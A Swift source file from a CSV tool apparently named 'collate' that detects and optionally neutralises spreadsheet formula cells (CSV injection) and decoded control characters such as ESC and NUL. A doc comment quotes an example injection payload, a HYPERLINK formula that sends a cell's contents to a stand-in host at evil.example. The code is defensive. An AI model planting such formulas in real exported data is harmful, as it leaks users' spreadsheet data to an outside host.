import IndexedCollation

/// CSV cells a spreadsheet would run as formulas: a cell that begins with
/// `=`, `+`, `-` or `@` (or a tab or CR, which some spreadsheets skip before
/// one) is a formula to Excel, LibreOffice and Google Sheets, so a record
/// such as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` becomes a live
/// link, or worse, when the output is opened (OWASP's "CSV injection").
///
/// `--spreadsheet-safe` writes such cells with a leading `'`, which the
/// spreadsheet shows as text and does not display; without it they are
/// written as read (the output is data for any CSV reader first) and a
/// warning counts those that are not plain numbers (`-5`, `+49 30 1234`).
enum SpreadsheetFormulas {
    private static let triggers: [UInt8] = [UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"),
                                            ASCII.tab, ASCII.carriageReturn]

    /// Whether a cell (unquoted) begins as a formula does.
    static func isFormula(_ cell: UnsafeBufferPointer<UInt8>) -> Bool {
        cell.first.map(triggers.contains) ?? false
    }

    /// Whether a formula-like cell is only a number: digits, with signs,
    /// spaces, `.`, `,`, `/`, `(`, `)` (a negative amount, a phone number),
    /// or `;` (a card's phone numbers in one `--columns` cell).
    static func isNumber(_ cell: UnsafeBufferPointer<UInt8>) -> Bool {
        cell.contains { (UInt8(ascii: "0")...UInt8(ascii: "9")).contains($0) }
            && cell.allSatisfy { (UInt8(ascii: "0")...UInt8(ascii: "9")).contains($0) || Array(" +-.,/();".utf8).contains($0) }
    }

    /// Whether a row as read may hold a formula cell: a trigger at its
    /// start or after a delimiter (a quote between allowed). A quick test
    /// before the row is split; it may say yes for a delimiter in quotes.
    /// Complexity: O(n), no allocation.
    static func mayHoldFormula(_ row: UnsafeBufferPointer<UInt8>, delimiter: UInt8) -> Bool {
        var atFieldStart = true
        for byte in row {
            if atFieldStart, triggers.contains(byte) { return true }
            atFieldStart = byte == delimiter || (atFieldStart && byte == ASCII.quote)
        }
        return false
    }

    /// `cell` with the leading `'` that makes it text.
    static func neutralised(_ cell: UnsafeBufferPointer<UInt8>) -> [UInt8] {
        [UInt8(ascii: "'")] + Array(cell)
    }

    /// The warning for `count` formula cells written unchanged.
    static func warning(count: Int) -> String {
        "collate: warning: \(count) \(count == 1 ? "cell begins" : "cells begin") with =, +, -, @, a tab or a CR and \(count == 1 ? "is" : "are") "
            + "not a number: a spreadsheet runs such cells as formulas; --spreadsheet-safe writes them with a leading ' as text\n"
    }
}

/// Control characters in cells the tool decoded itself (`--columns`,
/// `--display`, a keyed JSON value, a vCard's name): quoted-printable `=1B`,
/// base64 or a JSON `\u0000` give bytes the input never held as such — an
/// ESC that drives a terminal showing the file, a NUL many CSV readers stop
/// at. A cell keeps its data (it is written as decoded, quoted as RFC 4180
/// asks) and a warning counts such cells; with `--spreadsheet-safe` they
/// are written as their Control Pictures (ESC as ␛, NUL as ␀), as text
/// output shows them. Tab, LF and CR are a cell's own text, not counted.
enum DecodedControls {
    /// Whether `byte` is a C0 control other than tab, LF and CR, or DEL.
    private static func isControl(_ byte: UInt8) -> Bool {
        (byte < 0x20 && byte != ASCII.tab && byte != ASCII.lineFeed && byte != ASCII.carriageReturn) || byte == 0x7F
    }

    /// Whether `cell` holds such a control.
    static func holdsControl(_ cell: UnsafeBufferPointer<UInt8>) -> Bool {
        cell.contains(where: isControl)
    }

    /// `cell` with those controls as their Control Pictures.
    static func visible(_ cell: UnsafeBufferPointer<UInt8>) -> [UInt8] {
        var result: [UInt8] = []
        result.reserveCapacity(cell.count + 8)
        for byte in cell {
            if isControl(byte) { result += ControlPictures.utf8(of: byte) } else { result.append(byte) }
        }
        return result
    }

    /// The warning for `count` cells written with controls.
    static func warning(count: Int, spreadsheetSafe: Bool) -> String {
        let cells = count == 1 ? "cell the input encoded holds" : "cells the input encoded hold"
        return spreadsheetSafe
            ? "collate: note: \(count) \(cells) control characters (quoted-printable, base64 or JSON escapes), written as their Control Pictures (ESC as \u{241B})\n"
            : "collate: warning: \(count) \(cells) control characters (quoted-printable, base64 or JSON escapes), written as decoded; a terminal or a CSV reader may act on them (ESC, NUL); --spreadsheet-safe writes them visibly\n"
    }
}
